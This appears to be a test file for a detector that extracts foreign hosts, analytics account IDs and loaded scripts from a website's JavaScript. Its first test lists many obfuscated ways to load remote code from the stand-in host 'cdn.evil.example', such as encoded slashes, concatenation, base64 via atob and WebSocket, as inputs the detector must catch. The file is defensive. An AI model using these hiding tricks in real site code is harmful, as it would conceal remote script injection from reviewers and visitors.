import assert from 'node:assert/strict'
import { test } from 'node:test'
import { codeKey } from './code-key.ts'

const read = (code: string) => codeKey(code, 'vote.example')

test('hosts are read however a code writes them, where a reader would see them at once', () => {
  for (const code of [
    'load("https://cdn.evil.example/x.js")',
    "load('//cdn.evil.example')",
    String.raw`load("https:\/\/cdn.evil.example\/x")`,
    String.raw`load("https:\x2f\x2fcdn.evil.example/x")`,
    String.raw`load("https:\u002F\u002Fcdn.evil.example/x")`,
    String.raw`load("https:\u{2f}/cdn.evil.example/x")`,
    'load("https%3A%2F%2Fcdn.evil.example")',
    'load("//" + "cdn.evil.example" + "/x.js")',
    'load("https://cdn." + "evil." + `example/${x}`)',
    'load("cdn.evil.example")',
    'load("cdn.evil.example/x.js", 1)',
    `load(atob("${btoa('https://cdn.evil.example/x')}"))`,
    `load(atob('${btoa('cdn.evil.example')}'))`,
    'load(`https://cdn.evil.example/${x}`)',
    "load(`//${'cdn.evil.example'}/x`)",
    'fetch(`wss://user@cdn.evil.example:81/`)',
    'import x from "https://cdn.evil.example/x.js"',
    'new WebSocket("wss://cdn.evil.example")',
  ])
    assert.ok(read(code).hosts.includes('cdn.evil.example'), `${code}: ${read(code).hosts.join()}`)
})

test('files, events, properties, versions and the site itself are no foreign hosts', () => {
  for (const code of [
    'on("gtm.js", "page.open", "shown.bs.modal", "index.html", "1.2.3", "a.b.c", "text/html")',
    'load("https://www.vote.example/x", "/a.b/c", "e.g. this one")',
    '// see https://evil.example/docs\nload(1)',
  ])
    assert.deepEqual(read(code).hosts, [], code)
})

test('hosts in data are told from those that the code itself names, with the size of the data', () => {
  const code = read(
    'start({api: "https://api.example/v1", list: ["//b.example/"]}, "//c.example/")',
  )
  assert.deepEqual([code.hosts, code.dataHosts], [['c.example'], ['api.example', 'b.example']])
  assert.equal(code.dataLength, '{api: "https://api.example/v1", list: ["//b.example/"]'.length)
  for (const state of [
    'window.__NUXT__=(function(a){return f(a)}("//x.example/"))',
    `self.__next_f.push([1,"a //x.example/"])`,
  ])
    assert.deepEqual([read(state).hosts, read(state).dataHosts], [[], ['x.example']], state)
})

test('accounts at services are read, other tokens are not', () => {
  const rows: [string, string[]][] = [
    ["gtag('config', 'G-AB12CD34EF')", ['G-AB12CD34EF']],
    ["l(w,d,'script','dataLayer','GTM-ABCDEFG')", ['GTM-ABCDEFG']],
    ['w._hjSettings={hjid:1234567,hjsv:6}', ['hjid 1234567']],
    ["_paq.push(['setSiteId', '7'])", ['setSiteId 7']],
    ['ym(98765432, "init", {clickmap: true})', ['ym 98765432']],
    ["go('a1b2c3d4e5f6', 12345, 'COVID-19', 'AW-nothing')", []],
  ]
  for (const [code, accounts] of rows) assert.deepEqual(read(code).accounts, accounts, code)
})

test('scripts that a code takes in are named by their addresses', () => {
  const code = `import a from "/a.js"; import "./b.js"; const c = await import('/c.js'); export * from "https://d.example/d.js"
    navigator.serviceWorker.register("/sw.js"); new Worker('/w.js'); form.register("/no.js"); import v from "vue"`
  assert.deepEqual(read(code).loads, [
    '/a.js',
    './b.js',
    '/c.js',
    'https://d.example/d.js',
    '/sw.js',
    '/w.js',
  ])
})

test('a name that a build draws by chance is the same in each release, with a number in it or without', () => {
  const keyOf = (name: string) =>
    codeKey(`${name} = {base: ''}; start(${name})`, 'vote.example').key
  assert.equal(keyOf('__sveltekit_z8jw8y'), keyOf('__sveltekit_rfljoo'))
  assert.notEqual(keyOf('__sveltekit_rfljoo'), keyOf('__other_rfljoo'))
})
